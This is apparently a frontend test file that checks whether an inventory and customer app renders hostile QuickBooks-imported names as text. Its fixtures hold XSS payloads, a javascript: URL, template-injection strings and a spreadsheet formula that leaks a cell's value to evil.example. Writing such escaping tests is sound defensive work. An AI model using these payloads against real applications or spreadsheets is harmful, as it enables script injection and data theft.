import type { Customer, Part } from "@app/shared";
import { screen, within } from "@testing-library/react";
import { afterEach, describe, expect, it, vi } from "vitest";
import { fakeServer, json } from "../../test/fake-server";
import { aCustomer, aPart } from "../../test/records";
import { renderApp } from "../../test/render-app";

/**
 * Names imported from QuickBooks are written by anyone: they must reach the screen as text,
 * never as markup (the server stores them byte for byte; see server/src/hardening/hostile-data).
 */
const SCRIPT = "<script>alert(1)</script>";
const IMG = "<img src=x onerror=alert(1)>";
const SVG = '"><svg onload=alert(1)>';
const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")';
const BIDI = "\u202Egnp.exe\u202C invoice";
const ASTRAL = "🛞 Tire 𝕏 𠜎 👩🏽‍🔧";
const TEMPLATE = "{{constructor.constructor('alert(1)')()}} ${7*7} %s";
const MULTILINE = "line 1\r\nline 2\tcolumn <b>bold</b>";

const part = (n: number, over: Partial<Part>): Part =>
  aPart({
    id: `00000000-0000-4000-8000-00000000000${n}`,
    partNumber: "",
    vendor: null,
    quickBooksItemRef: String(100 + n),
    ...over,
  });

const PARTS: Part[] = [
  part(1, {
    description: SCRIPT,
    partNumber: SVG,
    note: MULTILINE,
    vendor: { id: "v", name: IMG },
  }),
  part(2, { description: IMG, partNumber: HYPERLINK, quickBooksItemRef: "javascript:alert(1)" }),
  part(3, { description: HYPERLINK, partNumber: TEMPLATE, quantityAvailable: "-5.25" }),
  part(4, { description: BIDI, retailCost: "999999999999.99" }),
  part(5, { description: ASTRAL }),
  part(6, { description: TEMPLATE, kind: "non_inventory", quantityAvailable: null }),
];

const customer = (n: number, over: Partial<Customer>): Customer =>
  aCustomer({
    id: `00000000-0000-4000-8000-00000000010${n}`,
    quickBooksCustomerRef: String(n),
    ...over,
  });

const CUSTOMERS: Customer[] = [
  customer(1, {
    firstName: SCRIPT,
    lastName: BIDI,
    email: `"${SVG}"@example.com`,
    note: MULTILINE,
  }),
  customer(2, { companyName: IMG, city: HYPERLINK }),
  customer(3, { companyName: HYPERLINK, phone: "+1 =2+3" }),
  customer(4, { companyName: ASTRAL, address1: TEMPLATE }),
];

const list = <T,>(items: T[]) =>
  json({ items, total: items.length, totalExact: true, page: 1, pageSize: 50 });

/** Nothing in the page was built from the hostile text: no script, no handler, no js: link. */
function expectNoInjectedMarkup() {
  expect(document.querySelectorAll("script")).toHaveLength(0);
  expect(document.querySelectorAll('img[src="x"], svg[onload], b')).toHaveLength(0);
  const handlers = [...document.querySelectorAll("*")].flatMap((el) =>
    el.getAttributeNames().filter((a) => a.startsWith("on")),
  );
  expect(handlers).toEqual([]);
  for (const a of document.querySelectorAll("a[href]"))
    expect(a.getAttribute("href")).not.toMatch(/^\s*javascript:/i);
}

/** `getByText` collapses whitespace; these compare the exact characters. */
const exactly = (text: string) => (_: string, el: Element | null) =>
  el?.textContent === text && [...el.children].every((c) => c.textContent !== text);

afterEach(() => vi.unstubAllGlobals());

describe("hostile QuickBooks names are rendered as text", () => {
  it("in the inventory list", async () => {
    fakeServer({ "GET /api/inventory?page=1&pageSize=50&sort=description": () => list(PARTS) });
    renderApp("/inventory");
    const table = await screen.findByRole("table", { name: "Parts" });
    for (const p of PARTS) {
      expect(within(table).getByRole("link", { name: p.description }).textContent).toBe(
        p.description,
      );
    }
    for (const text of [SVG, HYPERLINK, TEMPLATE])
      expect(within(table).getAllByText(exactly(text)).length).toBeGreaterThan(0);
    expect(
      within(table).getByRole("img", { name: "Synced with QuickBooks (item javascript:alert(1))" }),
    ).toBeTruthy();
    expectNoInjectedMarkup();
  });

  it("on a part's page, note and vendor included", async () => {
    const p = PARTS[0]!;
    fakeServer({
      [`GET /api/inventory/${p.id}`]: () => json(p),
      [`GET /api/inventory/${p.id}/movements`]: () => json({ items: [] }),
    });
    renderApp(`/inventory/${p.id}`);
    expect((await screen.findByRole("heading", { level: 1 })).textContent).toBe(SCRIPT);
    for (const text of [SCRIPT, SVG, IMG, MULTILINE])
      expect(screen.getAllByText(exactly(text)).length).toBeGreaterThan(0);
    expectNoInjectedMarkup();
  });

  it("on a part whose QuickBooks reference is a javascript: URL", async () => {
    const p = PARTS[1]!;
    fakeServer({
      [`GET /api/inventory/${p.id}`]: () => json(p),
      [`GET /api/inventory/${p.id}/movements`]: () => json({ items: [] }),
    });
    renderApp(`/inventory/${p.id}`);
    expect((await screen.findByRole("heading", { level: 1 })).textContent).toBe(IMG);
    expect(screen.getByText("javascript:alert(1)")).toBeTruthy();
    const open = screen.getByRole("link", { name: /Open in QuickBooks/ });
    expect(open.getAttribute("href")).toBe(
      // The demo's company lives in the offline sandbox: the link opens its stand-in page.
      "http://127.0.0.1:4010/app/item?itemId=javascript%3Aalert(1)",
    );
    expectNoInjectedMarkup();
  });

  it("in the customers list and on a customer's page", async () => {
    fakeServer({
      "GET /api/customers?page=1&pageSize=50": () => list(CUSTOMERS),
      [`GET /api/customers/${CUSTOMERS[0]!.id}`]: () => json(CUSTOMERS[0]),
    });
    const { unmount } = renderApp("/customers");
    const table = await screen.findByRole("table", { name: "Customers" });
    expect(within(table).getByRole("link", { name: `${SCRIPT} ${BIDI}` })).toBeTruthy();
    for (const name of [IMG, HYPERLINK, ASTRAL])
      expect(within(table).getByRole("link", { name }).textContent).toBe(name);
    expect(within(table).getAllByText(exactly(HYPERLINK)).length).toBeGreaterThan(1); // the city
    expectNoInjectedMarkup();
    unmount();

    renderApp(`/customers/${CUSTOMERS[0]!.id}`);
    expect((await screen.findByRole("heading", { level: 1 })).textContent).toBe(
      `${SCRIPT} ${BIDI}`,
    );
    for (const text of [`"${SVG}"@example.com`, MULTILINE])
      expect(screen.getAllByText(exactly(text)).length).toBeGreaterThan(0);
    expectNoInjectedMarkup();
  });
});
